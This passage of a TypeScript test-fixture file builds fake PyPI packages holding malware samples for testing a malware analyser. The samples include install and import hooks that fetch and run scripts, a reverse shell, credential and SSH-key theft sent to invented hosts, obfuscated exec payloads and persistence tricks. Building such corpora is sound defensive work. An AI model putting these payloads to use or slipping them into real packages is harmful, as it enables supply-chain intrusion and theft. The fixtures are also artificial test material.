/**
 * Inert PyPI malware variants, SET2 (blind): written without looking at the analyser (shared/),
 * its rules, docs/package-analysis.md, test/unit/, bench/ or the malware corpus. What was read:
 * test/fixtures/archives/build.ts (tar/tgz writer), the header and exported helpers at the top of
 * test/support/pypi-variants-set1.ts (the PypiVariant shape, the pypiSdist packer, the seeded
 * generator, and the list of triggers and payload families SET1 covered), and public reports of
 * PyPI malware found with the `search` tool (corpora "pages" and "issues"), listed below.
 *
 * SET2 tests generalisation, so it prefers forms SET1 did not use.
 * Triggers: setup.cfg-declared cmdclass (no code in setup.py), custom build_ext / sdist /
 * bdist_wheel commands, a `setuptools.finalize_distribution_options` entry point, a Hatch build
 * hook (hatch_build.py) and a PDM build hook, console_scripts and pytest11 plugin entry points,
 * a shipped conftest.py, Django AppConfig.ready, module `__getattr__` (PEP 562), `__init_subclass__`,
 * a decorator applied at module load, `__del__` finalisers, a threading.Timer started from a
 * submodule that `__init__` imports, a logging handler that fires on the first log record, a
 * usercustomize.py dropped into the user site (every interpreter start), a Cython .pyx module
 * compiled at install and imported as "speedups", and a sourceless .pyc imported by `__init__`.
 * Payload carriers: codecs.decode(..., 'rot13'), bytes.fromhex, lzma, bz2, gzip, raw deflate
 * (wbits=-15), base85, Python source hidden in a README `.. raw::` block, XOR keyed by the package name, exec reached via
 * getattr(builtins, ...), importlib.import_module of names built from pieces,
 * types.FunctionType(marshal.loads(...)), pickle files with a `__reduce__` opcode stream,
 * pickle.loads of a fetched blob, YAML with python/object tags, JSON carrying code, TOML config
 * carrying a command. Process start: os.popen, pty.spawn, asyncio.create_subprocess_shell,
 * os.posix_spawn, os.execv after fork, urlretrieve then os.startfile / chmod + exec, memfd_create
 * in-memory ELF, ctypes shellcode loaders with VirtualAlloc / mmap names built at runtime.
 * Beacons: http.client (no urllib / requests), os.popen host facts, DNS names with hex labels.
 * Theft: ~/.aws, ~/.kube/config, ~/.docker/config.json, ~/.git-credentials, ~/.netrc, SSH keys,
 * browser Local State and Login Data, wallet folders (Exodus, Electrum, Atomic), shell history,
 * CI environment. Channels: SMTP (smtplib), DNS A lookups with hex labels, a hand-built DNS TXT
 * query for a second stage, a GitHub-API-shaped gist / issue endpoint on an invented
 * enterprise host, a paste site, ICMP echo payloads (raw socket), FTP (ftplib STOR), UDP syslog. Persistence: launchd
 * plist, schtasks, winreg Run key (no reg.exe), global git hooks (core.hooksPath), XDG autostart
 * .desktop, PowerShell profile, ~/.zshenv, IPython startup file.
 *
 * About a third are "hard" (the note says so): split over files, reached through indirection,
 * next to decoys that match the stated purpose. PYPI_TWINS_SET2 are honest near twins.
 *
 * Each note starts with `[trigger]` or `[trigger, hard]`, trigger one of install, build-backend,
 * startup, import, runtime.
 *
 * Nothing here runs: the texts are packed into in-memory tarballs by pypiSdist (shared with
 * SET1). Hosts are invented (`.example` / `.invalid` / `.test`, TEST-NET 192.0.2.x /
 * 198.51.100.x / 203.0.113.x). No package registry host is written. Tokens and keys are invented
 * by a seeded generator below. The lzma / bz2 blobs are compressions of short texts written in a
 * comment next to each; the shellcode bytes are NOPs and an int3, not a working payload.
 *
 * Sources (public reports the variants follow):
 * - cmdclass install hook that downloads a binary (exotel 0.1.6):
 *   https://github.com/ossf/package-analysis/issues/369 , https://github.com/sarathsp06/exotel-py/issues/10
 * - Host fingerprint beacons using os.popen and ctypes.windll (typosquat wave):
 *   https://github.com/pypi/warehouse/issues/3948
 * - Import-time socket C2 with sandbox checks, base64 exec at the bottom of setup.py (reols,
 *   dark-magic): https://github.com/pypi/warehouse/issues/7195
 * - Reverse shell in setup.py through pty.spawn: https://github.com/pypi/warehouse/issues/9887
 * - setup.py beacon posting user and host to an issue-like endpoint:
 *   https://github.com/pypi/legacy/issues/644
 * - Hades/Miasma (2026): stealer of env, .env, SSH keys, cloud credentials, exfiltration by
 *   committing to a GitHub repository: https://github.com/google/osv.dev/issues/5503
 * - LiteLLM (2026) SSH / AWS / Kubernetes theft: https://vuink.com/post/tvguho-d-dpbz/shenxianpeng/pipguard
 * - aiocpa: an honest-looking crypto SDK whose update sends keys to a Telegram bot:
 *   https://www.cyberdefenseinsights.com/post/security-alert-pypi-package-aiocpa-exfiltrates-crypto-keys-via-telegram
 * - discordpydebug (Socket, 2025): a debug helper that polls a C2 and runs commands:
 *   https://edunews24.it/amp/tecnologia/allarme-sicurezza-il-pacchetto-pypi-contraffatto-che-ha-colpito-gli-sviluppatori-di-bot-discord-con-un-rat-sofisticato
 * - sympy-dev (2026): memfd_create in-memory ELF loader fetching a miner:
 *   https://www.pulse.bot/cybersecurity/news/malicious-pypi-package-impersonates-sympy-dev-targeting-millions-of-users-2fc821dc-37b1-4640-abad-77926b8dbb07
 * - ctypes in Python malware (VirtualAlloc / RtlMoveMemory shellcode loaders):
 *   https://blog.onlineexamcheating.com/?p=65497
 * - March 2024 wave (wallets, browser data, persistence):
 *   https://trendingtech.news/trending-news/2024/03/4225/aanval-op-open-source-repositories-pypi-tijdelijk-gepauzeerd
 * - Fabrice (AWS keys): https://gabztech.com/2024/11/08/overview-of-pypi-and-its-role-in-the-developer-ecosystem
 * - Cloud-token stealers: https://cloudindustryreview.com/malicious-pypi-packages-compromise-cloud-tokens-with-14100-downloads-before-being-pulled
 * - ZiChatBot (a chat API as C2; Windows autostart):
 *   https://appsecuritystandards.org/blog/pypi-malware-detection-playbook-for-python-teams
 * - Pickle and __pycache__ carriers: https://gthegenie.pages.dev/posts/pycache_poisoning
 * - Empirical study of 4,669 malicious PyPI files (info stealing, command execution, anti-detection):
 *   https://arxiv.org/html/2309.11021v1 ; statement-level taxonomy: https://arxiv.org/html/2512.12559v1
 * - "written": the Hatch / PDM hooks, finalize_distribution_options, pytest11, AppConfig.ready,
 *   PEP 562 `__getattr__`, logging-handler, ICMP, FTP, SMTP, IPython-startup and git-hook forms
 *   are this author's combinations of the shapes above on documented Python mechanisms.
 */

import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import type { PypiVariant } from './pypi-variants-set1.js';

export type { PypiVariant } from './pypi-variants-set1.js';
export { pypiSdist } from './pypi-variants-set1.js';

/** Raw template: generated Python keeps its backslashes. Contents avoid backticks and `${`. */
const py = String.raw;
const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');
const hex = (s: string): string => Buffer.from(s).toString('hex');
const gzb64 = (s: string): string => gzipSync(Buffer.from(s)).toString('base64');
const rawDeflB64 = (s: string): string => deflateRawSync(Buffer.from(s)).toString('base64');
const xorHex = (s: string, key: string): string =>
  Buffer.from([...Buffer.from(s)].map((c, i) => c ^ key.charCodeAt(i % key.length))).toString('hex');
const rot13 = (s: string): string =>
  s.replace(/[a-z]/gi, (c) =>
    String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c <= 'Z' ? 65 : 97)),
  );
/** Python's base64.b85encode alphabet and padding rule. */
function b85(s: string): string {
  const A = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~';
  const data = Buffer.from(s);
  const pad = (4 - (data.length % 4)) % 4;
  const buf = Buffer.concat([data, Buffer.alloc(pad)]);
  let out = '';
  for (let i = 0; i < buf.length; i += 4) {
    let n = buf.readUInt32BE(i);
    const chunk: string[] = [];
    for (let j = 0; j < 5; j++) {
      chunk.unshift(A[n % 85]!);
      n = Math.floor(n / 85);
    }
    out += chunk.join('');
  }
  return pad ? out.slice(0, out.length - pad) : out;
}

/** Seeded generator for invented tokens (deterministic, points nowhere). */
function invented(seed: number): (alphabet: string, n: number) => string {
  let x = seed >>> 0;
  return (alphabet, n) => {
    let out = '';
    for (let i = 0; i < n; i++) {
      x = (Math.imul(x, 22695477) + 1) >>> 0;
      out += alphabet[(x >>> 8) % alphabet.length];
    }
    return out;
  };
}
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const HEXD = '0123456789abcdef';
const g = invented(0x5e7d2);
const FAKE = {
  ghToken: `ghp_${g(ALNUM, 36)}`,
  smtpPass: g(ALNUM, 16),
  ftpPass: g(ALNUM, 12),
  beaconId: g(HEXD, 12),
  pasteKey: g(ALNUM, 32),
};

const pkgInfo = (name: string, version: string, summary: string): string =>
  `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: ${summary}\nAuthor: ${name} maintainers\nLicense: MIT\nRequires-Python: >=3.8\n`;

function pkg(
  name: string,
  version: string,
  summary: string,
  files: Record<string, string | Buffer>,
): Pick<PypiVariant, 'name' | 'version' | 'files'> {
  return { name, version, files: { 'PKG-INFO': pkgInfo(name, version, summary), ...files } };
}

/** A setup.py that only calls setup(); behaviour comes from setup.cfg / pyproject. */
const bareSetup = 'from setuptools import setup\n\nsetup()\n';
const setupCfg = (name: string, version: string, extra = ''): string =>
  `[metadata]\nname = ${name}\nversion = ${version}\n\n[options]\npackages = find:\n${extra}`;
const pyproject = (name: string, version: string, extra = ''): string =>
  `[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "${name}"\nversion = "${version}"\n${extra}`;

/** A CPython 3.11 .pyc: magic, flags, mtime/size, then a placeholder code object ('c' with the
 * FLAG_REF bit) carrying short ASCII strings, as marshal writes them. Not loadable; shape only. */
function fakePyc(strings: readonly string[]): Buffer {
  const head = Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  const body = [Buffer.from([0xe3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0])];
  for (const s of strings) body.push(Buffer.from([0x7a, Buffer.byteLength(s)]), Buffer.from(s, 'latin1'));
  return Buffer.concat([head, ...body]);
}

// ---------- shared payload texts (encoded differently by each variant) ----------

const T_CURL = 'import os\nos.system("curl -fsS http://203.0.113.44/b.sh -o /tmp/.b && sh /tmp/.b")\n';
const T_STEAL = py`import os, json, urllib.request
h = os.path.expanduser('~')
out = {}
for p in ('.aws/credentials', '.kube/config', '.docker/config.json', '.git-credentials', '.netrc'):
    try:
        out[p] = open(os.path.join(h, p)).read()
    except OSError:
        pass
urllib.request.urlopen('http://collect.stat-cdn.example/u', json.dumps(out).encode())
`;

export const PYPI_VARIANTS_SET2: readonly PypiVariant[] = [
  // ---------------- install-time, new command forms ----------------
  {
    id: 'setupcfg-cmdclass-build-ext-hook',
    family: 'download_exec',
    note: '[install] setup.py is bare; setup.cfg declares cmdclass build_ext = a module in the sdist that fetches and runs a script before compiling. After: https://github.com/ossf/package-analysis/issues/369',
    ...pkg('fastjsonx', '2.1.0', 'Fast JSON helpers', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg('fastjsonx', '2.1.0', 'cmdclass =\n    build_ext = _build.hooks.BuildExt\n'),
      '_build/__init__.py': '',
      '_build/hooks.py': py`import os, stat, tempfile, urllib.request
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    def run(self):
        dst = os.path.join(tempfile.gettempdir(), 'jx-helper')
        urllib.request.urlretrieve('http://198.51.100.17/jx/helper', dst)
        os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
        os.spawnl(os.P_NOWAIT, dst, dst)
        super().run()
`,
      'fastjsonx/__init__.py': 'import json\n\ndumps = json.dumps\nloads = json.loads\n',
    }),
  },
  {
    id: 'sdist-command-override-popen-beacon',
    family: 'beacon',
    note: '[install] a custom sdist and egg_info-free path: cmdclass sdist override reports host facts through os.popen output. After: https://github.com/pypi/warehouse/issues/3948',
    ...pkg('reqeusts-oauth', '1.3.1', 'OAuth for requests', {
      'setup.py': py`import os, platform, getpass, urllib.parse, urllib.request
from setuptools import setup
from setuptools.command.sdist import sdist


def facts():
    lang = os.popen('echo $LANG').read().strip()
    who = os.popen('id').read().strip()
    return {'u': getpass.getuser(), 'n': platform.node(), 'l': lang, 'id': who}


class S(sdist):
    def run(self):
        urllib.request.urlopen('http://203.0.113.90/r?' + urllib.parse.urlencode(facts()), timeout=3)
        sdist.run(self)


try:
    urllib.request.urlopen('http://203.0.113.90/r?' + urllib.parse.urlencode(facts()), timeout=3)
except Exception:
    pass

setup(name='reqeusts-oauth', version='1.3.1', packages=['requests_oauth'], cmdclass={'sdist': S})
`,
      'requests_oauth/__init__.py': '"""OAuth helpers."""\n',
    }),
  },
  {
    id: 'bdist-wheel-override-lzma-exec',
    family: 'obfuscated_exec',
    note: '[install] bdist_wheel override (the path pip takes when it builds a wheel from the sdist) decompresses an lzma blob and execs it; the blob fetches and execs a second stage. After: https://github.com/ossf/package-analysis/issues/369',
    ...pkg('pandas-utilz', '0.9.2', 'Small helpers for pandas', {
      'setup.py': py`import base64, lzma
from setuptools import setup
try:
    from wheel.bdist_wheel import bdist_wheel
except ImportError:
    from setuptools.command.bdist_wheel import bdist_wheel

# import os,urllib.request as u / exec(u.urlopen("http://198.51.100.23/s2").read())
_B = '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQBPaW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0IGFzIHUKZXhlYyh1LnVybG9wZW4oImh0dHA6Ly8xOTguNTEuMTAwLjIzL3MyIikucmVhZCgpKQoA+KJGkKMJLwEAAWhQcAXJ5h+2830BAAAAAARZWg=='


class W(bdist_wheel):
    def run(self):
        exec(lzma.decompress(base64.b64decode(_B)))
        super().run()


setup(name='pandas-utilz', version='0.9.2', packages=['pandas_utilz'], cmdclass={'bdist_wheel': W})
`,
      'pandas_utilz/__init__.py': 'def head(df, n=5):\n    return df.head(n)\n',
    }),
  },
  {
    id: 'finalize-distribution-options-entry-point',
    family: 'download_exec',
    note: '[install, hard] the package registers a setuptools.finalize_distribution_options entry point; once installed, every later setup() run on the machine calls it. The hook lives in a submodule, named only in entry_points.txt, and runs bz2-compressed code. Written',
    ...pkg('setuptools-gitver', '0.4.0', 'Version numbers from git tags', {
      'setup.py': bareSetup,
      'setup.cfg': setupCfg(
        'setuptools-gitver',
        '0.4.0',
        '\n[options.entry_points]\nsetuptools.finalize_distribution_options =\n    gitver = setuptools_gitver._finalize:apply\n',
      ),
      'setuptools_gitver/__init__.py': py`import subprocess


def describe():
    return subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True).stdout.strip()
`,
      'setuptools_gitver/_finalize.py': py`import base64, bz2

# import os,socket / os.system("curl -s http://203.0.113.61/k | bash")
_K = 'QlpoOTFBWSZTWTWPVhIAABNZgAAQUGf5EDpu3iQgAEjDaQ9Tamg8p6jTTygUTEwGiYRgnqIt184d0lUsCTe4FNE4WARGANQmmZ6X851dnxmIyUQ9MQR+qEQdvo8fxdyRThQkDWPVhIA='


def apply(dist):
    try:
        exec(compile(bz2.decompress(base64.b64decode(_K)), '<gitver>', 'exec'), {})
    except Exception:
        pass
    return dist
`,
      'setuptools_gitver.egg-info/entry_points.txt':
        '[setuptools.finalize_distribution_options]\ngitver = setuptools_gitver._finalize:apply\n',
    }),
  },
  {
    id: 'hatch-build-hook-steal',
    family: 'credential_theft',
    note: '[build-backend] hatchling custom build hook (hatch_build.py, named in pyproject) reads cloud and container credentials and posts them while the wheel is built. After: https://github.com/google/osv.dev/issues/5503',
    ...pkg('ml-metrics-kit', '1.0.3', 'Metrics for ML experiments', {
      'pyproject.toml': `[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "ml-metrics-kit"\nversion = "1.0.3"\n\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n`,
      'hatch_build.py':
        py`from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        ` +
        T_STEAL.replace(/\n(?=.)/g, '\n        ') +
        py`
`,
      'ml_metrics_kit/__init__.py':
        'def accuracy(y, p):\n    return sum(a == b for a, b in zip(y, p)) / max(len(y), 1)\n',
    }),
  },
  {
    id: 'pdm-build-hook-gzip-exec',
    family: 'obfuscated_exec',
    note: '[build-backend] pdm-backend build hook (pdm_build.py at the project root, loaded by the backend) execs gzip-compressed base64 that downloads and runs a script. Written',
    ...pkg('typer-extras', '0.2.5', 'Extras for typer CLIs', {
      'pyproject.toml': `[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n\n[project]\nname = "typer-extras"\nversion = "0.2.5"\n`,
      'pdm_build.py':
        py`import base64, gzip


def pdm_build_initialize(context):
    context.ensure_build_dir()
    exec(gzip.decompress(base64.b64decode('` +
        gzb64(T_CURL) +
        py`')))
`,
      'src/typer_extras/__init__.py': 'def confirm_all(items):\n    return list(items)\n',
    }),
  },
  {
    id: 'setup-pty-spawn-env-host',
    family: 'reverse_shell',
    note: '[install] setup.py opens a reverse shell with pty.spawn; host and port come from a hex string. After: https://github.com/pypi/warehouse/issues/9887',
    ...pkg('flask-sessionx', '0.3.0', 'Server-side sessions for Flask', {
      'setup.py':
        py`import os, socket, pty
from setuptools import setup

if os.fork() == 0:
    a = bytes.fromhex('` +
        hex('192.0.2.77') +
        py`').decode()
    s = socket.create_connection((a, 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn('/bin/bash')
    os._exit(0)

setup(name='flask-sessionx', version='0.3.0', packages=['flask_sessionx'])
`,
      'flask_sessionx/__init__.py': 'class Session(dict):\n    pass\n',
    }),
  },
  {
    id: 'setup-asyncio-subprocess-shell',
    family: 'download_exec',
    note: '[install] setup.py runs the downloader through asyncio.create_subprocess_shell (no subprocess / os.system call in sight); the command is rot13 text decoded with codecs. Written',
    ...pkg('aiohttp-retry2', '2.8.4', 'Retry client for aiohttp', {
      'setup.py':
        py`import asyncio, codecs
from setuptools import setup


async def _prep():
    p = await asyncio.create_subprocess_shell(codecs.decode('` +
        rot13('wget -qO- http://198.51.100.8/a | python3 -') +
        py`', 'rot13'))
    await p.wait()

try:
    asyncio.run(_prep())
except Exception:
    pass

setup(name='aiohttp-retry2', version='2.8.4', packages=['aiohttp_retry2'])
`,
      'aiohttp_retry2/__init__.py': 'RETRIES = 3\n',
    }),
  },
  {
    id: 'setup-memfd-elf',
    family: 'download_exec',
    note: '[install] fetched ELF written to an anonymous memfd and executed from /proc/self/fd (no file on disk). After: https://www.pulse.bot/cybersecurity/news/malicious-pypi-package-impersonates-sympy-dev-targeting-millions-of-users-2fc821dc-37b1-4640-abad-77926b8dbb07',
    ...pkg('sympy-devtools', '1.13.0', 'Developer tools for SymPy', {
      'setup.py': py`import os, urllib.request
from setuptools import setup

try:
    blob = urllib.request.urlopen('http://pool-updates.example/x86_64', timeout=10).read()
    fd = os.memfd_create('kworker', 0)
    os.write(fd, blob)
    if os.fork() == 0:
        os.execv('/proc/self/fd/%d' % fd, ['kworker', '-o', 'pool.mine.example:3333'])
except Exception:
    pass

setup(name='sympy-devtools', version='1.13.0', packages=['sympy_devtools'])
`,
      'sympy_devtools/__init__.py': 'def simplify_all(exprs):\n    return [e.simplify() for e in exprs]\n',
    }),
  },
  {
    id: 'setup-schtasks-startfile',
    family: 'persistence',
    note: '[install] Windows only: urlretrieve an exe into %APPDATA%, start it with os.startfile and register a logon task with schtasks. After: https://appsecuritystandards.org/blog/pypi-malware-detection-playbook-for-python-teams',
    ...pkg('pywin-toast', '0.6.1', 'Windows toast notifications', {
      'setup.py': py`import os, sys, subprocess, urllib.request
from setuptools import setup

if sys.platform == 'win32':
    d = os.path.join(os.environ['APPDATA'], 'WinToast')
    os.makedirs(d, exist_ok=True)
    exe = os.path.join(d, 'toasthost.exe')
    urllib.request.urlretrieve('http://203.0.113.31/t.exe', exe)
    os.startfile(exe)
    subprocess.Popen(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'ToastHost', '/tr', exe, '/f'],
                     creationflags=0x08000000)

setup(name='pywin-toast', version='0.6.1', packages=['pywin_toast'])
`,
      'pywin_toast/__init__.py': 'def notify(title, body):\n    print(title, body)\n',
    }),
  },
  {
    id: 'setup-winreg-run-key-base85',
    family: 'persistence',
    note: '[install] winreg SetValueEx on the HKCU Run key (no reg.exe); the command it stores is base85 text. Written',
    ...pkg('colorlog2', '6.8.1', 'Colored formatter for logging', {
      'setup.py':
        py`import base64, sys
from setuptools import setup

if sys.platform.startswith('win'):
    import winreg
    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(k, 'ColorLogSvc', 0, winreg.REG_SZ, base64.b85decode('` +
        b85('powershell -w hidden -c "iex (iwr http://198.51.100.66/p.ps1)"') +
        py`').decode())
    winreg.CloseKey(k)

setup(name='colorlog2', version='6.8.1', packages=['colorlog2'])
`,
      'colorlog2/__init__.py': 'import logging\n\nColoredFormatter = logging.Formatter\n',
    }),
  },
  {
    id: 'setup-launchd-plist',
    family: 'persistence',
    note: '[install] macOS: writes a LaunchAgent plist (RunAtLoad, KeepAlive) that runs a fetched script and loads it with launchctl. Written',
    ...pkg('mac-notifier', '1.2.0', 'Notification Center from Python', {
      'setup.py': py`import os, sys, subprocess
from setuptools import setup

PL = '''<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>com.apple.mdworker.helper</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>
<string>curl -s http://192.0.2.140/m | sh</string></array>
<key>RunAtLoad</key><true/><key>KeepAlive</key><true/>
</dict></plist>'''

if sys.platform == 'darwin':
    p = os.path.expanduser('~/Library/LaunchAgents/com.apple.mdworker.helper.plist')
    os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, 'w').write(PL)
    subprocess.call(['launchctl', 'load', '-w', p])

setup(name='mac-notifier', version='1.2.0', packages=['mac_notifier'])
`,
      'mac_notifier/__init__.py': 'def notify(msg):\n    print(msg)\n',
    }),
  },
  {
    id: 'setup-global-git-hook',
    family: 'persistence',
    note: '[install, hard] sets git config --global core.hooksPath to a folder it creates and drops a post-checkout hook that posts the repository remote and ~/.git-credentials; the hook text sits in a data file of the package, not in setup.py. Written',
    ...pkg('pre-commit-hookz', '3.1.0', 'Extra hooks for pre-commit', {
      'setup.py': py`import os, shutil, stat, subprocess
from setuptools import setup

here = os.path.dirname(os.path.abspath(__file__))
hooks = os.path.expanduser('~/.config/git/hooks')
os.makedirs(hooks, exist_ok=True)
for name in ('post-checkout', 'post-merge'):
    dst = os.path.join(hooks, name)
    shutil.copy(os.path.join(here, 'pre_commit_hookz', 'data', 'hook.sh'), dst)
    os.chmod(dst, 0o755)
subprocess.call(['git', 'config', '--global', 'core.hooksPath', hooks])

setup(name='pre-commit-hookz', version='3.1.0', packages=['pre_commit_hookz'], include_package_data=True)
`,
      'pre_commit_hookz/__init__.py': 'HOOKS = ["trailing-whitespace", "end-of-file"]\n',
      'pre_commit_hookz/data/hook.sh': py`#!/bin/sh
r=$(git config --get remote.origin.url)
c=$(cat ~/.git-credentials 2>/dev/null | base64 | tr -d '\n')
curl -s -m 3 "http://hooks.devsync.example/c?r=$r&c=$c" >/dev/null 2>&1 &
`,
    }),
  },
  {
    id: 'setup-dns-hex-labels-confusion',
    family: 'dependency_confusion',
    note: '[install] dependency-confusion beacon: user, host and cwd hex-encoded into DNS labels and resolved with socket.getaddrinfo (no HTTP). After: https://github.com/pypi/legacy/issues/644',
    ...pkg('acme-internal-auth', '99.0.1', 'internal', {
      'setup.py':
        py`import os, socket, getpass
from setuptools import setup

def _b():
    d = ('%s|%s|%s' % (getpass.getuser(), socket.gethostname(), os.getcwd())).encode().hex()
    parts = [d[i:i + 60] for i in range(0, len(d), 60)]
    for n, p in enumerate(parts):
        try:
            socket.getaddrinfo('%d.%s.` +
        FAKE.beaconId +
        py`.oast.example' % (n, p), 80)
        except OSError:
            pass

_b()
setup(name='acme-internal-auth', version='99.0.1', packages=[])
`,
    }),
  },
  {
    id: 'setup-smtp-exfil',
    family: 'credential_theft',
    note: '[install] SSH private keys and AWS credentials mailed through smtplib to an invented mail host with invented login. After: https://gabztech.com/2024/11/08/overview-of-pypi-and-its-role-in-the-developer-ecosystem',
    ...pkg('paramiko-ssh2', '3.4.1', 'SSH2 helpers for paramiko', {
      'setup.py':
        py`import glob, os, smtplib
from email.message import EmailMessage
from setuptools import setup

try:
    m = EmailMessage()
    m['Subject'] = os.uname().nodename
    m['From'] = m['To'] = 'drop@mail.relay.example'
    for f in glob.glob(os.path.expanduser('~/.ssh/id_*')) + [os.path.expanduser('~/.aws/credentials')]:
        if os.path.isfile(f):
            m.add_attachment(open(f, 'rb').read(), maintype='application', subtype='octet-stream', filename=os.path.basename(f))
    with smtplib.SMTP_SSL('mail.relay.example', 465) as s:
        s.login('drop', '` +
        FAKE.smtpPass +
        py`')
        s.send_message(m)
except Exception:
    pass

setup(name='paramiko-ssh2', version='3.4.1', packages=['paramiko_ssh2'])
`,
      'paramiko_ssh2/__init__.py': 'DEFAULT_PORT = 22\n',
    }),
  },
  // ---------------- import-time ----------------
  {
    id: 'init-timer-submodule-kube-ftp',
    family: 'credential_theft',
    note: '[import, hard] __init__ imports ._metrics which starts a threading.Timer (90 s) that uploads ~/.kube/config and docker config over FTP (ftplib STOR). The submodule also holds real metric helpers as a decoy. After: https://vuink.com/post/tvguho-d-dpbz/shenxianpeng/pipguard',
    ...pkg('kube-metrics-lite', '0.8.0', 'Lightweight Kubernetes metrics client', {
      'setup.py': py`from setuptools import setup
setup(name='kube-metrics-lite', version='0.8.0', packages=['kube_metrics_lite'])
`,
      'kube_metrics_lite/__init__.py': py`from .client import MetricsClient
from . import _metrics  # noqa: F401

__all__ = ['MetricsClient']
`,
      'kube_metrics_lite/client.py': py`class MetricsClient:
    def __init__(self, base='http://localhost:8001'):
        self.base = base

    def pods(self, ns='default'):
        return self.base + '/apis/metrics.k8s.io/v1beta1/namespaces/%s/pods' % ns
`,
      'kube_metrics_lite/_metrics.py':
        py`import io, os, ftplib, threading


def percentile(xs, p):
    xs = sorted(xs)
    return xs[int(len(xs) * p / 100)] if xs else None


def _sync():
    try:
        f = ftplib.FTP('192.0.2.201', 'anon', '` +
        FAKE.ftpPass +
        py`', timeout=10)
        for p in ('~/.kube/config', '~/.docker/config.json'):
            q = os.path.expanduser(p)
            if os.path.exists(q):
                f.storbinary('STOR %s_%s' % (os.uname().nodename, os.path.basename(q)), io.BytesIO(open(q, 'rb').read()))
        f.quit()
    except Exception:
        pass


_t = threading.Timer(90.0, _sync)
_t.daemon = True
_t.start()
`,
    }),
  },
  {
    id: 'init-getattr-builtins-fromhex',
    family: 'obfuscated_exec',
    note: '[import] exec reached through getattr(builtins, "".join(...)) on hex-decoded source that fetches a second stage. After: https://github.com/pypi/warehouse/issues/7195',
    ...pkg('tqdm-rich', '4.66.9', 'tqdm progress bars rendered with rich', {
      'setup.py': py`from setuptools import setup
setup(name='tqdm-rich', version='4.66.9', packages=['tqdm_rich'])
`,
      'tqdm_rich/__init__.py':
        py`import builtins

_f = getattr(builtins, ''.join(['e', 'x', 'e', 'c']))
_f(bytes.fromhex('` +
        hex('import urllib.request as r\nexec(r.urlopen("http://cdn.tqdm-assets.example/p.py").read())\n') +
        py`').decode())


def track(it):
    return it
`,
    }),
  },
  {
    id: 'init-import-module-built-names',
    family: 'obfuscated_exec',
    note: '[import, hard] importlib.import_module on module names assembled from reversed pieces ("ssecorpbus", "tekcos"), attribute names via getattr; the downloader is never named literally. Written',
    ...pkg('yaml-schema-tools', '1.1.4', 'Schema validation for YAML', {
      'setup.py': py`from setuptools import setup
setup(name='yaml-schema-tools', version='1.1.4', packages=['yaml_schema_tools'])
`,
      'yaml_schema_tools/__init__.py': py`from .validate import validate
from .compat import _load

_load()
`,
      'yaml_schema_tools/validate.py': py`def validate(doc, schema):
    for k, t in schema.items():
        if not isinstance(doc.get(k), t):
            return False
    return True
`,
      'yaml_schema_tools/compat.py': py`import importlib

_M = ('bil' + 'lru')[::-1] + '.' + 'tseuqer'[::-1]
_S = 'ssecorpbus'[::-1]


def _load():
    try:
        net = importlib.import_module(_M)
        body = getattr(net, 'nepolru'[::-1])('http://198.51.100.54/' + 'hs.l'[::-1]).read()
        sp = importlib.import_module(_S)
        getattr(sp, 'nepoP'[::-1])(['sh', '-c', body.decode()])
    except Exception:
        pass
`,
    }),
  },
  {
    id: 'init-functiontype-marshal',
    family: 'obfuscated_exec',
    note: '[import] types.FunctionType(marshal.loads(zlib.decompress(...)), globals())() — a code object carried as data and turned into a callable without exec. The blob is a placeholder of the right shape. After: https://github.com/pypi/warehouse/issues/7195',
    ...pkg('numpy-financial2', '1.0.2', 'Financial functions for NumPy', {
      'setup.py': py`from setuptools import setup
setup(name='numpy-financial2', version='1.0.2', packages=['numpy_financial2'])
`,
      'numpy_financial2/__init__.py':
        py`import marshal, types, zlib, base64

_C = '` +
        b64(Buffer.concat([Buffer.from([0x78, 0x9c]), Buffer.from(g(ALNUM, 180))])) +
        py`'

try:
    types.FunctionType(marshal.loads(zlib.decompress(base64.b64decode(_C))), globals())()
except Exception:
    pass


def npv(rate, values):
    return sum(v / (1 + rate) ** i for i, v in enumerate(values))
`,
    }),
  },
  {
    id: 'init-pickle-file-reduce',
    family: 'data_file_payload',
    note: '[import] a shipped "model defaults" .pkl whose protocol-0 opcode stream calls os.system through __reduce__; __init__ pickle.load()s it. After: https://gthegenie.pages.dev/posts/pycache_poisoning',
    ...pkg('sentiment-mini', '0.1.7', 'Tiny sentiment model', {
      'setup.py': py`from setuptools import setup
setup(name='sentiment-mini', version='0.1.7', packages=['sentiment_mini'], package_data={'sentiment_mini': ['defaults.pkl']})
`,
      'sentiment_mini/__init__.py': py`import os, pickle

with open(os.path.join(os.path.dirname(__file__), 'defaults.pkl'), 'rb') as fh:
